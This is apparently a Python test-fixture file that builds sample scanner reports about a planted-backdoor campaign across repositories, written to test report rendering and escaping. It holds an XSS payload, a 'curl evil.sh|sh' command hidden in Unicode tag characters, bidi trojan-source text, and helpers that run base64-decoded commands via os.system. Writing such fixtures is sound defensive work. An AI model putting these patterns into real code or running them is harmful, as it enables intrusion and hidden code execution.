"""Small report inputs written by hand: a scan result, campaigns over a tree of repositories, a drop report."""
from __future__ import annotations

import json
from pathlib import Path

XSS = "</script><img src=x onerror=alert(1)><!--"
TAGS = "".join(chr(0xE0000 + ord(c)) for c in "curl evil.sh|sh")

PLANTED = {
    # repo: (author, date, code of the planted helper in utils/net.py)
    "alice/weather": ("mallory", "2024-05-02T09:14:00+00:00",
                      "import base64, os\n\ndef refresh_cache(path):\n    blob = 'ZWNobyBoaQ=='\n"
                      "    os.system(base64.b64decode(blob).decode())\n    return path\n"),
    "bob/todo-app": ("m4llory", "2024-05-03T22:40:00+00:00",
                     "import base64, os\n\ndef refresh_store(p):\n    data = 'ZWNobyBoaQ=='\n"
                     "    os.system(base64.b64decode(data).decode())\n    return p\n"),
    "carol/csv-tools": ("mallory", "2024-05-04T07:05:00+00:00",
                        "import base64, os\n\ndef refresh_cache(path):\n    blob = 'ZWNobyBoaQ=='\n"
                        "    os.system(base64.b64decode(blob).decode())\n    return path\n"),
    f"dave/{XSS}": ("eve" + XSS, "2024-05-05T12:00:00Z",
                    "import base64, os\n\ndef refresh_cache(path):  # " + XSS + "\n    blob = 'ZWNobyBoaQ=='\n"
                    "    os.system(base64.b64decode(blob).decode())\n    return path\n"),
}


def finding(rule_id, path, line, snippet, repo=None, severity="high", category="code-execution", **kw) -> dict:
    out = {"rule_id": rule_id, "category": category, "severity": severity, "confidence": "high",
           "message": kw.pop("message", f"{rule_id} fired"), "path": path, "line": line, "end_line": line,
           "column": kw.pop("column", 1), "end_column": kw.pop("end_column", None), "snippet": snippet,
           "cwe": ["CWE-94"], "context": kw.pop("context", "code"), "fingerprint": "x" * 32}
    if repo:
        out["repo"] = repo
    out.update(kw)
    return out


def write_tree(root: Path) -> Path:
    """ROOT/<owner>/<name>/utils/net.py for every planted repository (a plain tree, no git)."""
    for repo, (_, _, code) in PLANTED.items():
        target = root / repo.replace("/", "/", 1) / "utils" / "net.py"
        if "<" in repo:  # a repository name no file system accepts everywhere: its code is not at hand
            continue
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(code, encoding="utf-8")
    return root


def campaign_findings() -> list[dict]:
    return [finding("os-system-built-command", "utils/net.py", 5,
                    "os.system(base64.b64decode(blob).decode())", repo=repo, column=5, end_column=47,
                    commit="c0ffee" + str(i), author=author, date=date)
            for i, (repo, (author, date, _)) in enumerate(PLANTED.items())]


def campaigns_doc() -> dict:
    members = [{"repo": repo, "path": "utils/net.py", "line": 3, "end_line": 6, "commit": f"c0ffee{i}",
                "author": author, "date": date} for i, (repo, (author, date, _)) in enumerate(PLANTED.items())]
    planted = {"id": "c-7f3a91", "score": 9.25,
               "reasons": ["4 repositories with 3 distinct owners", "introduced within 3 days by 3 identities",
                           f"every member runs a decoded payload {XSS}"],
               "repos": list(PLANTED), "authors": sorted({a for a, _, _ in PLANTED.values()}),
               "first_seen": "2024-05-02T09:14:00+00:00", "last_seen": "2024-05-05T12:00:00Z",
               "categories": ["code-execution"], "members": members, "findings": campaign_findings()}
    boring = {"id": "c-00b1e2", "score": 1.5, "reasons": ["a shared licence header spread over six years"],
              "repos": ["alice/weather", "bob/todo-app"], "authors": ["alice", "bob"],
              "first_seen": "2018-01-01T00:00:00", "last_seen": "2024-01-01T00:00:00", "categories": [],
              "members": [{"repo": "alice/weather", "path": "LICENSE", "line": 1, "end_line": 3, "commit": "a1",
                           "author": "alice", "date": "2018-01-01T00:00:00"},
                          {"repo": "bob/todo-app", "path": "LICENSE", "line": 1, "end_line": 3, "commit": "b1",
                           "author": "bob", "date": "2024-01-01T00:00:00"}],
              "findings": []}
    return {"schema_version": "1.0", "campaigns": [boring, planted]}  # unsorted on purpose


def scan_doc() -> dict:
    found = campaign_findings() + [
        finding("bidi-control-character", "src/auth.js", 7, 'if (role !== "user\u202e \u2066// admin\u2069\u2066") {',
                category="hidden-unicode", severity="critical", repo="alice/weather"),
        finding("unicode-tag-characters", "README.md", 2, "Install it" + TAGS, category="hidden-unicode",
                severity="high", repo="bob/todo-app", decoded="curl evil.sh|sh"),
        finding("exec-of-decoded-payload", XSS + ".py", 1, "exec(x)  # " + XSS, repo="carol/csv-tools",
                message="exec " + XSS, decoded=XSS),
        finding("weak-hash", "h.py", 4, "hashlib.md5(data)", severity="low", category="insecure-crypto",
                column=1, end_column=12),
    ]
    return {"schema_version": "1.0", "findings": found, "skipped": [{"path": "big.bin", "reason": "binary"}],
            "suppressed": 0, "stats": {"files": 9, "seconds": 0.1}}


def drops_rows() -> list[dict]:
    return [{"id": "rec-17", "shard": "train-0001.jsonl", "reasons": ["exec-of-decoded-payload", XSS],
             "categories": ["code-execution"], "campaign": "c-7f3a91"}]


def write_inputs(tmp: Path) -> dict[str, Path]:
    paths = {"scan": tmp / "scan.json", "campaigns": tmp / "campaigns.json", "drops": tmp / "drops.jsonl",
             "tree": write_tree(tmp / "tree")}
    paths["scan"].write_text(json.dumps(scan_doc()), encoding="utf-8")
    paths["campaigns"].write_text(json.dumps(campaigns_doc()), encoding="utf-8")
    paths["drops"].write_text("".join(json.dumps(r) + "\n" for r in drops_rows()), encoding="utf-8")
    return paths
